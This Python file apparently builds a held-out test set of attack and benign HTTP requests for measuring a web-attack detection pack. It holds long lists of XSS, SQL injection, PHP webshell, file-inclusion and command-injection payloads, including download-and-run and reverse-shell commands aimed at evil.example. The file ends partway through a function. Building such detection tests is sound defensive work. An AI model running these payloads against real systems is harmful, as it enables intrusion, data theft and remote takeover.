# SPDX-License-Identifier: Apache-2.0
"""The held-out set of `make detect`: attack and benign requests the pack was
not written from, built at run time (build/heldout-requests.jsonl).

Two kinds of source, both read here and never copied into the tree:
  - payload lists that Debian packages ship (wfuzz's Injections and vulns
    lists, sqlmap's payload XML and file list, wapiti's attack files, the
    locales' month and day names for benign non-ASCII words), read where the
    packages install them; a source whose package is missing is left out and
    named in the report;
  - class vocabularies written here from the attack classes themselves (HTML,
    SVG and MathML elements and every event handler, PHP open tags, wrappers
    and filter chains, Windows cmd and PowerShell commands, CMS include
    parameters with plain https:// URLs, OS / application / log file paths,
    protocol abuse: method policy, Cache-Control, Range, Accept-Encoding,
    invalid percent-encoding, an off-site URL in the request line).  They are
    kept apart from conf/lists on purpose: the pack's lists are not read here.

Every payload that also occurs, decoded, as a parameter value of the shared
corpora is dropped, so the set measures generalisation, not memory.  Each
payload goes into the smallest request of its class: one query parameter,
named from a small set of names that class is usually sent in."""

import glob
import json
import os
import random
import re
import urllib.parse
import xml.etree.ElementTree as ET

WFUZZ = '/usr/share/wfuzz/wordlist'
SQLMAP = '/usr/share/sqlmap/data'
WAPITI = '/usr/lib/python3/dist-packages/wapitiCore/data/attacks'
LOCALES = '/usr/share/i18n/locales'
BROWSER_UA = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
HOST = 'shop.example.org'

# parameter names each class is usually sent in (cycled through, in order)
PARAMS = {
    'xss': ['q', 'search', 'name', 'comment', 'message', 'title', 'keyword', 'lang'],
    'sqli': ['id', 'item', 'cat', 'user', 'order', 'pid', 'sort', 'product_id'],
    'lfi': ['file', 'page', 'document', 'template', 'path', 'download', 'view', 'filename'],
    'rce': ['host', 'ip', 'target', 'domain', 'address', 'server', 'query', 'name'],
    'php': ['code', 'data', 'input', 'text', 'value', 'content', 'q', 'page'],
    'rfi': None,    # the payload names its own parameter
}
PATHS = {'xss': '/search', 'sqli': '/product.php', 'lfi': '/index.php', 'rce': '/tools/ping.php',
         'php': '/index.php', 'rfi': '/index.php'}

# ------------------------------------------------------ class vocabularies --

# every event handler attribute of HTML, SVG and the DOM (GlobalEventHandlers, WindowEventHandlers,
# DocumentAndElementEventHandlers, media, animation, transition, pointer, touch, drag, clipboard, print,
# legacy IE and SVG 1.1 names)
HANDLERS = '''abort activate afterprint afterscriptexecute animationcancel animationend animationiteration
animationstart auxclick beforeactivate beforecopy beforecut beforedeactivate beforeinput beforeprint
beforescriptexecute beforetoggle beforeunload beforepaste begin blur bounce cancel canplay canplaythrough change
click close contentvisibilityautostatechange contextlost contextmenu contextrestored copy cuechange cut dblclick
deactivate drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange emptied end ended error
finish focus focusin focusout formdata fullscreenchange fullscreenerror gotpointercapture hashchange input invalid
keydown keypress keyup languagechange load loadeddata loadedmetadata loadend loadstart lostpointercapture message
messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel move offline online
pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter pointerleave
pointermove pointerout pointerover pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange
rejectionhandled repeat reset resize scroll scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation
seeked seeking select selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate
toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart
unhandledrejection unload volumechange waiting webkitanimationend webkitanimationiteration webkitanimationstart
webkittransitionend wheel zoom filterchange layoutcomplete losecapture rowenter rowexit rowsdelete rowsinserted
datasetchanged dataavailable datasetcomplete errorupdate help controlselect moveend movestart resizeend resizestart
beforeeditfocus beforeupdate afterupdate cellchange'''.split()

# elements that can carry a handler or run script, HTML, SVG and MathML, common and rare
ELEMENTS = '''a abbr acronym address animate animatemotion animatetransform animation applet area article aside audio b
base basefont bdi bdo bgsound big blink blockquote body br button canvas caption center cite code col colgroup command
content data datalist dd del details dfn dialog dir discard div dl dt element em embed fieldset figcaption figure
font footer foreignobject form frame frameset h1 h2 h3 h4 h5 h6 handler head header hgroup hr html i iframe image img
input ins isindex kbd keygen label layer legend li link listener listing main maction map mark marquee math menu
menuitem meta meter mglyph mi multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p
param picture plaintext pre progress q rb rp rt rtc ruby s samp script search section select set shadow slot small
source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title
tr track tt u ul use var video wbr xmp xss custom-element x'''.split()

XSS_FORMS = [
    '<{e} {h}=alert(1)>', '<{e}/{h}=alert(1)>', '<{e} x {h}="alert(1)">', '"><{e} {h}=confirm`1`>',
    "'><{e}\t{h}=prompt(1)//", '<{e} style="x" {h}=alert(document.domain)>',
]
# script through namespaces, XML islands, attributes that load script, and no-tag contexts
XSS_EXTRA = [
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    '<html:img xmlns:html="http://www.w3.org/1999/xhtml" src=x onerror=alert(1)>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    '<a:svg xmlns:a="http://www.w3.org/2000/svg"><a:script>alert(1)</a:script></a:svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">click</math>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<embed src="javascript:alert(1)">',
    '<form><button formaction=javascript:alert(1)>x</button></form>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>',
    '<?xml-stylesheet type="text/xsl" href="data:,%3Cxsl:transform"?>',
    '<style>@import "javascript:alert(1)";</style>',
    '<div style="background:url(javascript:alert(1))">',
    '<div style="x:expression(alert(1))">',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:/a/-alert(1)///////"><a href=../lol/safari.html>test</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="livescript:alert(1)">',
    '<iframe src="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E"></iframe>',
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)' x='",
    '</script><script>alert(1)</script>',
    "';alert(String.fromCharCode(88,83,83))//",
    '</title><svg/onload=alert(1)>',
    '</textarea><img src=x onerror=alert(1)>',
    '<svg><script href=data:,alert(1) />',
    '<svg><discard onbegin=alert(1)>',
    '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror="alert(1)">',
    '<audio src/onerror=alert(1)>',
    '<input type=image src onerror=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<body onpageshow=alert(1)>',
    '<x contenteditable onblur=alert(1)>lose focus!</x>',
    '<x onclick=alert(1)>click this!</x>',
    '<style onload=alert(1)></style>',
    '<frameset onload=alert(1)>',
    '<table background="javascript:alert(1)">',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<bgsound src="javascript:alert(1);">',
    '<br size="&{alert(1)}">',
    '<layer src="http://evil.example/xss.js"></layer>',
    '<script src=//evil.example/x.js></script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<svg><style>{font-family:\'<iframe/onload=confirm(1)>\'}',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    'javascript:alert(document.cookie)',
    'javascript://%0aalert(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    '{{constructor.constructor(\'alert(1)\')()}}',
    '<img src=x onerror=eval(atob(\'YWxlcnQoMSk=\'))>',
    '<img src=x onerror=window[\'al\'+\'ert\'](1)>',
    '<img src=x onerror=top[/al/.source+/ert/.source](1)>',
    '<svg onload=import(\'//evil.example/x.js\')>',
]

PHP_EXTRA = [
    # open tags and their spellings
    '<?php system($_GET["c"]); ?>', '<?PHP echo shell_exec("id");?>', '<?= `id` ?>', '<?=system("id")?>',
    '<? passthru("id"); ?>', '<?php\neval(base64_decode("ZWNobyAxOw=="));', '<?php\tphpinfo();',
    '<script language="php">system("id");</script>', '<script language=php>phpinfo()</script>',
    '<?php @eval($_POST[1]);?>', '<?php $a="sys"."tem";$a("id");', '<?php file_put_contents("x.php",$_GET[0]);',
    '<?php include($_GET["f"]);', '%3C%3Fphp%20phpinfo()%3B%3F%3E',
    # wrappers and filter chains
    'php://filter/convert.base64-encode/resource=index.php',
    'php://filter/read=convert.base64-encode/resource=config.php',
    'php://filter/read=string.rot13/resource=index.php',
    'php://filter/string.toupper|string.rot13/resource=index.php',
    'php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd',
    'php://filter/convert.quoted-printable-encode/resource=index.php',
    'php://filter/convert.iconv.utf-8.utf-16le/resource=index.php',
    'php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|'
    'convert.iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.base64-decode/resource=php://temp',
    'php://filter/convert.iconv.L1.UTF7|convert.iconv.CP1282.ISO-IR-90|convert.base64-decode/resource=x',
    'php://filter/dechunk/resource=/etc/passwd',
    'PHP://FILTER/convert.base64-encode/resource=index',
    'pHp://FilTer/convert.base64-encode/resource=index.php',
    'php://input', 'php://stdin', 'php://fd/3', 'php://memory', 'php://temp/maxmemory:1048576',
    'phar://uploads/avatar.jpg/shell.php', 'phar:///var/www/uploads/x.gif',
    'zip://uploads/avatar.jpg%23shell.php', 'zip:///tmp/x.zip#shell',
    'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==',
    'data://text/plain,<?php phpinfo();?>', 'data:text/plain,<?php system("id");?>',
    'expect://id', 'expect://ls%20-la', 'glob:///var/www/*', 'compress.zlib:///etc/passwd',
    'compress.bzip2:///etc/passwd', 'ogg://evil.example/x.ogg', 'rar://uploads/x.rar#shell.php',
    'ssh2.exec://user:pass@evil.example:22/id',
    # functions, callbacks, object injection
    'system("id")', 'assert("phpinfo()")', 'call_user_func("system","id")', 'array_map("system",["id"])',
    'create_function("","system(\'id\');")', 'preg_replace("/.*/e","system(\'id\')","x")',
    'usort($a,"system")', 'proc_open("id",array(),$p)', 'pcntl_exec("/bin/sh")', 'popen("id","r")',
    '${@print(md5(1))}', '${system(id)}', '{${phpinfo()}}', '";phpinfo();//',
    'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
    'a:2:{i:0;O:10:"Monolog\\Logger":0:{}i:1;s:1:"x";}',
    'C:11:"ArrayObject":37:{x:i:0;a:1:{s:1:"x";s:2:"id";};m:a:0:{}}',
    '-d allow_url_include=1 -d auto_prepend_file=php://input',
    'allow_url_include=On', 'auto_prepend_file=/etc/passwd', 'disable_functions=',
    '$_SERVER["DOCUMENT_ROOT"]', '$GLOBALS["config"]', '$_ENV', '$HTTP_RAW_POST_DATA',
]

WIN_CMDS = [
    'whoami', 'whoami /priv', 'whoami /all', 'net user', 'net user hacker P@ss /add', 'net localgroup administrators',
    'net view', 'net share', 'net session', 'ipconfig /all', 'systeminfo', 'tasklist /v', 'taskkill /f /im av.exe',
    'ver', 'hostname', 'type C:\\Windows\\win.ini', 'type %SYSTEMROOT%\\system32\\drivers\\etc\\hosts',
    'dir C:\\', 'dir /s /b C:\\Users', 'findstr /si password *.config', 'wmic process list brief',
    'wmic useraccount get name,sid', 'wmic os get caption', 'reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
    'reg save HKLM\\SAM sam.hive', 'certutil -urlcache -split -f http://evil.example/a.exe a.exe',
    'certutil -decode x.b64 x.exe', 'bitsadmin /transfer j http://evil.example/a.exe C:\\Temp\\a.exe',
    'mshta http://evil.example/a.hta', 'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run(""calc"")")',
    'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication "', 'rundll32.exe shell32.dll,Control_RunDLL x.dll',
    'regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll', 'schtasks /create /tn x /tr calc.exe /sc once /st 00:00',
    'sc query', 'sc create x binPath= "cmd /c calc"', 'nltest /dclist:corp', 'qwinsta', 'netstat -ano',
    'arp -a', 'route print', 'nslookup evil.example', 'ping -n 10 127.0.0.1', 'timeout /t 10', 'vssadmin list shadows',
    'cmd /c dir', 'cmd.exe /c whoami', 'cmd /k ver', '%COMSPEC% /c ver', 'C:\\Windows\\System32\\cmd.exe /c set',
    'cscript //nologo x.vbs', 'wscript.exe x.js', 'msiexec /q /i http://evil.example/x.msi', 'forfiles /p c:\\windows /m notepad.exe /c calc.exe',
    'powershell -nop -w hidden -enc SQBFAFgA', 'powershell.exe -ExecutionPolicy Bypass -File x.ps1',
    'powershell -c "IEX(New-Object Net.WebClient).DownloadString(\'http://evil.example/a.ps1\')"',
    'pwsh -c Get-Process', 'powershell Get-ChildItem env:', 'powershell Get-Content C:\\Windows\\win.ini',
    'Invoke-WebRequest -Uri http://evil.example/a -OutFile a.exe', 'iwr http://evil.example/a|iex',
    'Start-Process calc.exe', 'Invoke-Expression $x', 'Get-WmiObject Win32_Process', 'Get-LocalUser',
    'Set-MpPreference -DisableRealtimeMonitoring $true', 'Add-MpPreference -ExclusionPath C:\\',
    '[System.Net.WebClient]::new().DownloadFile(\'http://evil.example/a\',\'a.exe\')',
    '[Convert]::FromBase64String(\'aWQ=\')', 'Test-NetConnection evil.example -Port 80',
    'Remove-Item -Recurse -Force C:\\inetpub\\wwwroot', 'Stop-Service WinDefend', 'Get-Service',
]
UNIX_CMDS = [
    'id', 'uname -a', 'cat /etc/passwd', 'cat /etc/shadow', 'ls -la /', 'whoami', 'ps aux', 'netstat -an',
    'wget http://evil.example/x -O /tmp/x', 'curl -s http://evil.example/x.sh | sh', 'nc -e /bin/sh evil.example 4444',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'python3 -c \'import os;os.system("id")\'', 'perl -e \'system("id")\'',
    'php -r \'system("id");\'', 'ruby -e \'`id`\'', 'busybox telnetd -l /bin/sh -p 4444', 'sleep 10', 'ping -c 10 127.0.0.1',
    'nslookup evil.example', 'dig evil.example', 'echo dGVzdA== | base64 -d | sh', 'chmod +x /tmp/x', 'crontab -l',
    'find / -perm -4000', 'awk \'BEGIN{system("id")}\'', 'xterm -display 10.0.0.1:1', 'mkfifo /tmp/f',
    'socat exec:sh tcp:evil.example:4444', 'tftp -i evil.example GET x', 'sh -c id', 'env', 'getent passwd',
]
RCE_SEPARATORS = ['127.0.0.1;{c}', '127.0.0.1|{c}', '127.0.0.1&{c}', '127.0.0.1&&{c}', '127.0.0.1||{c}',
                  '127.0.0.1%0a{c}', '127.0.0.1`{c}`', '127.0.0.1$({c})', 'x | {c}', '{c}']

RFI_PARAMS = ['page', 'file', 'include', 'inc', 'template', 'tpl', 'path', 'dir', 'doc', 'document', 'folder',
              'root', 'pg', 'style', 'pdf', 'mod', 'module', 'conf', 'config', 'lang', 'language', 'view',
              'content', 'layout', 'show', 'site', 'cat', 'load', 'theme', 'skin', 'main', 'body', 'home',
              'base', 'basepath', 'base_dir', 'root_path', 'mosConfig_absolute_path', 'phpbb_root_path',
              'GLOBALS[rootdir]', 'cfg[path]', '_CONF[path]', 'includedir', 'incpath', 'loc', 'header',
              'footer', 'menu', 'section', 'nav', 'sub', 'option', 'dbconfig', 'settings', 'classpath']
RFI_URLS = ['https://evil.example/shell.txt', 'http://evil.example/shell.txt', 'https://evil.example/c99.php',
            'https://raw.githubusercontent.com/x/y/main/s.txt', 'https://pastebin.com/raw/abcd1234',
            'http://evil.example/', 'https://evil.example', 'ftp://evil.example/x.txt',
            '//evil.example/shell.txt', 'https://evil.example/s.jpg', 'http://evil.example:8080/r57.txt',
            'https://evil.example/x.txt%00']

LFI_EXTRA = [
    # Unix logs, proc, sessions
    '/var/log/apache2/access.log', '/var/log/apache2/error.log', '/var/log/httpd/access_log', '/var/log/httpd/error_log',
    '/var/log/nginx/access.log', '/var/log/nginx/error.log', '/usr/local/apache2/logs/access_log',
    '/var/log/auth.log', '/var/log/secure', '/var/log/messages', '/var/log/syslog', '/var/log/mail.log',
    '/var/log/vsftpd.log', '/var/log/sshd.log', '/var/log/lastlog', '/var/log/wtmp', '/var/run/utmp',
    '/var/log/mysql/mysql.log', '/var/log/postgresql/postgresql.log', '/var/log/dpkg.log', '/var/log/cron',
    '/proc/self/environ', '/proc/self/cmdline', '/proc/self/fd/0', '/proc/self/fd/10', '/proc/self/status',
    '/proc/self/maps', '/proc/self/cwd/index.php', '/proc/1/environ', '/proc/version', '/proc/mounts',
    '/proc/net/tcp', '/proc/sched_debug', '/var/lib/php/sessions/sess_abc123', '/tmp/sess_abc123',
    '/var/lib/php5/sess_abc123', '/dev/fd/0',
    # Unix OS and server files
    '/etc/passwd', '/etc/shadow', '/etc/group', '/etc/hosts', '/etc/hostname', '/etc/issue', '/etc/motd',
    '/etc/crontab', '/etc/sudoers', '/etc/fstab', '/etc/resolv.conf', '/etc/os-release', '/etc/lsb-release',
    '/etc/ssh/sshd_config', '/etc/apache2/apache2.conf', '/etc/httpd/conf/httpd.conf', '/etc/nginx/nginx.conf',
    '/etc/php/8.2/apache2/php.ini', '/etc/mysql/my.cnf', '/etc/my.cnf', '/etc/redis/redis.conf',
    '/etc/postfix/main.cf', '/etc/samba/smb.conf', '/etc/exports', '/etc/inetd.conf', '/etc/security/passwd',
    '/etc/master.passwd', '/root/.bash_history', '/root/.ssh/id_rsa', '/home/user/.ssh/authorized_keys',
    '/root/.mysql_history', '/home/www/.profile', '/usr/local/etc/php.ini', '/opt/lampp/etc/httpd.conf',
    '/etc/kubernetes/admin.conf', '/var/run/secrets/kubernetes.io/serviceaccount/token', '/root/.aws/credentials',
    '/root/.docker/config.json', '/etc/gitlab/gitlab.rb', '/etc/tomcat9/tomcat-users.xml',
    # application files (relative and deep)
    '../wp-config.php', '../../config/database.yml', '../.env', '../../.git/config', '../configuration.php',
    '../LocalSettings.php', '../sites/default/settings.php', '../app/etc/env.php', '../app/etc/local.xml',
    '../config.inc.php', '../../includes/config.php', '../WEB-INF/web.xml', '../../WEB-INF/classes/application.properties',
    '../../../config/secrets.yml', '../appsettings.json', '../web.config', '../../composer.json', '../.htpasswd',
    '../.htaccess', '../../storage/logs/laravel.log', '../var/log/prod.log',
    # Windows paths
    'C:\\Windows\\win.ini', 'C:\\Windows\\System32\\drivers\\etc\\hosts', 'C:\\boot.ini', 'C:/Windows/system.ini',
    'C:\\Windows\\System32\\config\\SAM', 'C:\\Windows\\repair\\sam', 'C:\\Windows\\Panther\\Unattend.xml',
    'C:\\Windows\\debug\\NetSetup.log', 'C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config',
    'C:\\inetpub\\wwwroot\\web.config', 'C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex230101.log',
    'C:\\xampp\\apache\\logs\\access.log', 'C:\\xampp\\apache\\conf\\httpd.conf', 'C:\\xampp\\php\\php.ini',
    'C:\\wamp\\bin\\apache\\apache2.4.9\\conf\\httpd.conf', 'C:\\Program Files\\Apache Group\\Apache\\logs\\error.log',
    'C:\\ProgramData\\MySQL\\MySQL Server 8.0\\my.ini', 'C:\\Users\\Administrator\\NTUser.dat',
    'C:\\Users\\Administrator\\.ssh\\id_rsa', 'C:\\Documents and Settings\\Administrator\\Desktop\\desktop.ini',
    'D:\\inetpub\\wwwroot\\global.asa', 'c:/windows/system32/license.rtf', 'C:\\Windows\\System32\\eula.txt',
    'C:\\pagefile.sys', '\\\\evil.example\\share\\x.txt', 'file:///C:/Windows/win.ini', '..\\..\\..\\windows\\win.ini',
    '..\\..\\..\\..\\boot.ini', '%SYSTEMROOT%\\win.ini', '%WINDIR%\\system32\\drivers\\etc\\hosts',
]

# protocol: (method, target, extra headers, version); the request is otherwise a browser's
PROTOCOL = [
    ('TRACE', '/', {}, None), ('TRACK', '/', {}, None), ('DEBUG', '/default.aspx', {'Command': 'stop-debug'}, None),
    ('NOEXISTE', '/', {}, None), ('SHOWMETHOD', '/', {}, None), ('SPACEJUMP', '/', {}, None),
    ('TEXTSEARCH', '/', {}, None), ('FOO', '/', {}, None), ('GETS', '/', {}, None), ('JEFF', '/', {}, None),
    ('get', '/', {}, None), ('Post', '/login', {}, None), ('PROPFIND', '/', {'Depth': '1'}, None),
    ('MKCOL', '/uploads/x/', {}, None), ('PUT', '/uploads/shell.php', {'Content-Type': 'text/plain'}, None),
    ('MOVE', '/uploads/shell.txt', {'Destination': 'http://' + HOST + '/uploads/shell.php'}, None),
    ('COPY', '/index.php', {'Destination': '/index.txt'}, None), ('DELETE', '/index.html', {}, None),
    ('CONNECT', 'evil.example:443', {}, None),
    # Range
    ('GET', '/download/file.zip', {'Range': 'bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6,5-7,5-8,5-9,5-10'}, None),
    ('GET', '/index.html', {'Range': 'bytes=1000-10'}, None),
    ('GET', '/index.html', {'Range': 'bytes=18446744073709551615-0'}, None),
    ('GET', '/index.html', {'Range': 'items=0-10'}, None),
    ('GET', '/index.html', {'Request-Range': 'bytes=0-1,1-2'}, None),
    ('GET', '/index.html', {'Range': 'bytes=abc-def'}, None),
    ('GET', '/index.html', {'Range': 'bytes=0-1;/etc/passwd'}, None),
    # Cache-Control
    ('GET', '/', {'Cache-Control': 'no-cache, ../../../etc/passwd'}, None),
    ('GET', '/', {'Cache-Control': 'max-age=abc'}, None),
    ('GET', '/', {'Cache-Control': '<script>alert(1)</script>'}, None),
    ('GET', '/', {'Cache-Control': 'no-cache no-store'}, None),
    ('GET', '/', {'Cache-Control': "max-age=0' OR '1'='1"}, None),
    ('GET', '/', {'Cache-Control': 'public, max-age=-1'}, None),
    # Accept-Encoding
    ('GET', '/', {'Accept-Encoding': 'gzip' + ',gzip' * 60}, None),
    ('GET', '/', {'Accept-Encoding': 'x' * 120}, None),
    ('GET', '/', {'Accept-Encoding': "gzip;q=1' and sleep(5)-- -"}, None),
    ('GET', '/', {'Accept-Encoding': '../../etc/passwd'}, None),
    # invalid or evasive percent-encoding
    ('GET', '/index.php?id=%zz', {}, None), ('GET', '/index.php?id=1%', {}, None),
    ('GET', '/index.php?id=%2', {}, None), ('GET', '/%gg/admin', {}, None), ('GET', '/index.php?q=%u003cscript', {}, None),
    ('GET', '/index.php?q=%%32%65%%32%65/', {}, None), ('GET', '/files/%252e%252e%252fetc%252fpasswd', {}, None),
    ('GET', '/index.php?x=%c0%af', {}, None), ('GET', '/%e0%80%ae%e0%80%ae/', {}, None),
    ('GET', '/index.php?a=%1g', {}, None),
    # off-site URL in the request line, Host tricks
    ('GET', 'http://evil.example/admin', {}, None), ('GET', 'http://127.0.0.1:8080/server-status', {}, None),
    ('GET', '/', {'Host': '127.0.0.1'}, None), ('GET', '/', {'Host': 'evil.example:80@' + HOST}, None),
    ('GET', '/', {'X-Forwarded-Host': 'evil.example'}, None),
    # framing and versions
    ('GET', '/', {'Content-Length': '-1'}, None), ('GET', '/', {'Content-Length': '5, 6'}, None),
    ('GET', '/', {'Transfer-Encoding': 'chunked, identity'}, None),
    ('POST', '/login', {'Transfer-Encoding': ' chunked', 'Content-Length': '4'}, None),
    ('GET', '/', {}, 'HTTP/1.7'), ('GET', '/', {}, 'HTTP/3.0'), ('GET', '/', {}, 'HTXP/1.1'),
    ('GET', '/', {'Proxy': 'http://evil.example'}, None), ('GET', '/', {'Content-Type': 'text/plain; charset=utf-7'}, None),
    ('GET', '/', {'Expect': '100-continue, x'}, None), ('GET', '/', {'Connection': 'keep-alive, Content-Length'}, None),
]
# benign protocol variants real browsers, CDNs and download managers send
PROTOCOL_BENIGN = [
    ('GET', '/', {'Cache-Control': 'max-age=0'}), ('GET', '/', {'Cache-Control': 'no-cache'}),
    ('GET', '/', {'Cache-Control': 'no-cache, no-store, must-revalidate'}), ('GET', '/', {'Cache-Control': 'max-stale'}),
    ('GET', '/', {'Cache-Control': 'only-if-cached, max-stale=3600'}), ('GET', '/', {'Pragma': 'no-cache'}),
    ('GET', '/', {'Accept-Encoding': 'gzip, deflate, br, zstd'}), ('GET', '/', {'Accept-Encoding': 'gzip;q=1.0, identity; q=0.5, *;q=0'}),
    ('GET', '/', {'Accept-Encoding': 'identity'}), ('GET', '/', {'Accept-Encoding': 'br;q=1.0, gzip;q=0.8, *;q=0.1'}),
    ('GET', '/v.mp4', {'Range': 'bytes=0-'}), ('GET', '/v.mp4', {'Range': 'bytes=1048576-2097151'}),
    ('GET', '/f.zip', {'Range': 'bytes=-500'}), ('GET', '/f.zip', {'Range': 'bytes=0-0,-1'}),
    ('GET', '/f.pdf', {'Range': 'bytes=0-1023, 4096-8191'}), ('HEAD', '/f.zip', {}),
    ('OPTIONS', '/api/items', {'Origin': 'https://app.example.org', 'Access-Control-Request-Method': 'PUT'}),
    ('GET', '/search?q=caf%C3%A9', {}), ('GET', '/search?q=50%25+off', {}), ('GET', '/a%20b/c%2Fd', {}),
    ('GET', '/search?q=C%2B%2B', {}), ('GET', '/search?q=100%25', {}),
]


# ------------------------------------------------------------ the requests --

def _read(path):
    try:
        with open(path, encoding='utf-8', errors='replace') as f:
            return [l.rstrip('\n') for l in f]
    except OSError:
        return None


def _payload_lines(path):
    lines = _read(path)
    if lines is None:
        return None
    return [l for l in (x.strip('\r') for x in lines) if l.strip() and not l.startswith('#')]


def _wapiti_ini(path):
    """payload = ... values of a wapiti .ini attack file, by section."""
    lines = _read(path)
    if lines is None:
        return None
    out, sect = [], ''
    for l in lines:
        s = l.strip()
        if s.startswith('['):
            sect = s.strip('[]')
        elif s.startswith('payload') and '=' in s:
            out.append((sect, s.split('=', 1)[1].strip()))
    return out


def _wapiti_fill(p):
    for k, v in (('__XSS__', '1337'), ('[EXTERNAL_ENDPOINT]', 'http://evil.example/'), ('[VALUE]', 'x'),
                 ('[TIME]', '5'), ('[LF]', '\n'), ('[TAB]', '\t'), ('[FILE_NAME]', 'index.php'),
                 ('[PATH_SEPARATOR]', '/'), ('[SLEEP]', '5')):
        p = p.replace(k, v)
    return p.replace('\\0', '\x00')


SQLMAP_FILL = [(r'\[RANDNUM\d*\]', '4821'), (r'\[RANDSTR\d*\]', 'qzxv'), (r'\[SLEEPTIME\]', '5'),
               (r'\[DELIMITER_START\]', 'qkvq'), (r'\[DELIMITER_STOP\]', 'qxjq'), (r'\[INFERENCE\]', '7021=7021'),
               (r'\[ORIGVALUE\]', '1'), (r'\[GENERIC_SQL_COMMENT\]', '-- -'), (r'\[QUERY\]', 'SELECT 1'),
               (r'\[DELAYED\]', 'SLEEP(5)'), (r'\[UNION\]', 'UNION ALL SELECT NULL'), (r'\[CHAR\]', 'NULL'),
               (r'\[COLSTART\]', '1'), (r'\[COLSTOP\]', '1'), (r'\[SPACE_REPLACE\]', ' '),
               (r'\[DOLLAR_REPLACE\]', '$'), (r'\[AT_REPLACE\]', '@'), (r'\[HASH_REPLACE\]', '#')]


def _sqlmap_payloads():
    files = sorted(glob.glob(os.path.join(SQLMAP, 'xml', 'payloads', '*.xml')))
    if not files:
        return None
    out = []
    for path in files:
        try:
            root = ET.parse(path).getroot()
        except (ET.ParseError, OSError):
            continue
        for test in root.iter('test'):
            p = test.findtext('request/payload')
            if not p:
                continue
            for rx, v in SQLMAP_FILL:
                p = re.sub(rx, v, p)
            where = test.findtext('where') or '1'
            # where 1: appended to the original value; 2: replaces it with a negative one; 3: replaces it
            if where.strip().startswith('3'):
                out += [p]
            else:
                out += ['1 ' + p, "1' " + p + "-- -"]
    return out


def _sqlmap_tampered(payloads):
    """Every 13th sqlmap payload through each of sqlmap's tamper scripts that
    runs on its own (the evasions sqlmap ships: comments for blanks, versioned
    comments, char encodings, overlong UTF-8, entity encodings ...), as
    (tamper name, payload) pairs; None when sqlmap is not installed."""
    import importlib
    import sys
    tdir = os.path.join(os.path.dirname(SQLMAP), 'tamper')
    if payloads is None or not os.path.isdir(tdir):
        return None
    sys.path.insert(0, os.path.dirname(SQLMAP))
    out = []
    try:
        for path in sorted(glob.glob(os.path.join(tdir, '*.py'))):
            name = os.path.basename(path)[:-3]
            if name.startswith('_'):
                continue
            try:
                mod = importlib.import_module('tamper.' + name)
                random.seed(name)       # tampers draw random comments and case: the same set every run
                got = [(name, mod.tamper(p, headers={})) for p in payloads[::13]]
            except Exception:           # noqa: BLE001  (needs sqlmap's run-time state)
                continue
            out += [(n, t) for n, t in got if t]
    finally:
        sys.path.remove(os.path.dirname(SQLMAP))
    return out


def _locale_words():
    """Month and day names of every locale with a non-ASCII letter (benign words)."""
    if not os.path.isdir(LOCALES):
        return None
    words = set()
    tok = re.compile(r'"([^"]*)"')
    uni = re.compile(r'<U([0-9A-Fa-f]{4,8})>')
    for path in sorted(glob.glob(os.path.join(LOCALES, '*'))):
        lines = _read(path) or []
        keep = False
        for l in lines:
            s = l.strip()
